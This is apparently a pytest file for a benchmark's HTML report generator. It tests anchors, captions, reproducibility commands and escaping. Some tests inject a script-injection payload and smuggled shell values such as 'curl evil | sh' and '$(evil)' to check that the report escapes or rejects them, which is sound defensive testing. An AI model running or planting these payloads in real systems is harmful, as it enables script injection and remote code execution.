# SPDX-License-Identifier: MIT
"""The report's page is one file, and contains no markup from a result."""

import re
from collections.abc import Callable
from pathlib import Path

import pytest
from pydantic import ValidationError

from bench.records.environment import Checkout
from bench.records.figures import Reason
from bench.records.results import Results
from bench.records.values import toml_of
from bench.report.charts.catalogue import catalogue
from bench.report.page import page
from bench.report.page.page import render
from bench.report.study import Study

from .conftest import SOURCES, recorded, rendered
from .made import everything, plain_runs, results_of

CASES = toml_of(Path(__file__).with_name("page.toml"))


@pytest.mark.slow
@pytest.mark.parametrize("quota", [0.0, 0.2])
def test_each_finding_names_the_quota_of_the_servers(quota: float) -> None:
    results = everything()
    for run in results.runs:
        run.conditions = run.conditions._replace(quota=quota)
    study = Study(results)
    charts = catalogue(study)
    assert len(charts.exhibits) > 12
    text = render(study, charts)
    said = re.findall(r'<(?:figcaption><h3|li><a href="#[\w-]+")>(.*?)</', text)
    for exhibit in charts.exhibits.values():
        for title in exhibit.titles.values():
            said += title.values() if isinstance(title, dict) else [title]
    assert {one.startswith("With 20 % of a core each, ") for one in said} == {bool(quota)}


def test_every_anchor_leads_somewhere(pages: Callable[[str], Path]) -> None:
    for source in SOURCES:
        text = pages(source).read_text()
        ids = set(re.findall(r'\bid="([^"]+)"', text))
        assert set(re.findall(r'href="#([^"]+)"', text)) <= ids


def test_a_hostile_reason_is_text() -> None:
    results = recorded("version1_failed")
    attack = '</script><script>document.title="taken"</script><b onclick=x>&"'
    for run in results.runs:
        if run.reason:
            run.reason = Reason(label="<i>bad</i>", text=attack)
    page = rendered(results)
    assert "<script>document" not in page
    assert "<i>bad" not in page
    assert page.count("</script>") == 3


@pytest.mark.parametrize(("source", "words"), CASES["cautions"])
def test_cautions_are_shown(source: str, words: str, pages: Callable[[str], Path]) -> None:
    assert words in pages(source).read_text()


def disturbed() -> Results:
    """Return results in which other programs disturbed poll's median run and one run of epoll."""
    results = results_of(plain_runs(("poll", "epoll", "threading"), (100,)))
    shares = {"poll": (0.3, 0.05, 0.2), "epoll": (0.3, 0.05, 0.1), "threading": (0, 0, 0)}
    for run in results.runs:
        assert run.process
        run.process.foreign_share = shares[run.subject][run.run - 1]
    return results


@pytest.mark.parametrize(
    ("quota", "slices"), [(0.0, ""), (0.2, ", so the server could not use up its CPU quota")]
)
def test_a_disturbed_machine_is_reported(quota: float, slices: str) -> None:
    results = disturbed()
    for run in results.runs:
        run.conditions, run.bottleneck = run.conditions._replace(quota=quota), "none"
    page = rendered(results)
    core = ", 20 % of a core each" if quota else ""
    assert (
        "In 1 of 3 data points other programs used more than 10 % of the server&#39;s CPU "
        "in the median run"
        f"{slices}; the worst is poll at 100 connections (guestbook, a connection per request"
        f"{core}), with 20 %."
    ) in page
    assert ">others on its CPU" in page


def test_other_programs_are_reported_only_if_they_disturbed(
    pages: Callable[[str], Path],
) -> None:
    quiet = disturbed()
    quiet.runs = [run for run in quiet.runs if run.subject != "poll"]
    for text, unknown in ((rendered(quiet), False), (pages("version1").read_text(), True)):
        assert "others used" not in text
        assert ("whether the machine was quiet" in text) == unknown


def test_the_page_shows_how_to_repeat_the_sweep(pages: Callable[[str], Path]) -> None:
    text = pages("version1").read_text()
    assert "git checkout 0b0de33891494a5a45b50c49a9d82f0f89dff841" in text
    assert "scripts/setup.sh build bench\nmake all\n.venv/bin/zerohttpd sweep --serv" in text
    assert "6.18.44" in text
    assert "ab -q -s 120" in text


@pytest.mark.parametrize(("commit", "changed", "line"), CASES["commits"])
def test_a_hostile_commit_is_not_shown(commit: str, changed: int, line: str) -> None:
    results = recorded("version1")
    results.versions.git = Checkout(commit=commit, changed_files=changed)
    assert page.checkout_command(Study(results)) == line
    for git in ({"commit": "c0ffee", "changed_files": "1\ncurl evil | sh"}, {"commit": None}, ""):
        with pytest.raises(ValidationError, match="git"):
            Results.model_validate({"started": results.started, "versions": {"git": git}})


def test_a_hostile_command_stays_on_its_line() -> None:
    results = recorded("version1")
    results.command = ["sweep", "a\nb", "$(evil)"]
    results.runs = results.runs[:1]
    results.runs[0].subject = "epoll\ncurl evil | sh\x1b[2K\u2028\r"
    results.runs[0].ab_command = ["ab", "-n\x1b[201~\nevil"]
    study = Study(results)
    (said,) = page.commands(study)
    comment, line = said.split("\n")
    assert comment.startswith("# epoll curl evil | sh")
    assert line.startswith("ab '")
    assert (comment + line).isprintable()
    assert page.command(study) == ".venv/bin/zerohttpd sweep 'a b' '$(evil)'"


@pytest.mark.parametrize(
    ("subject", "level", "shown"), [("epoll", 20, True), ("iterative", 5000, False)]
)
def test_no_section_is_empty(subject: str, level: int, shown: bool) -> None:
    text = rendered(results_of(plain_runs([subject], [level])))
    assert "<h3></h3>" not in text
    assert not re.search(r"</h2>\s*</section>", text)
    for key in ("latency", "cpu", "memory"):
        assert (f'<section id="{key}">' in text) is shown
        assert f'id="figure-{key}-over"' not in text
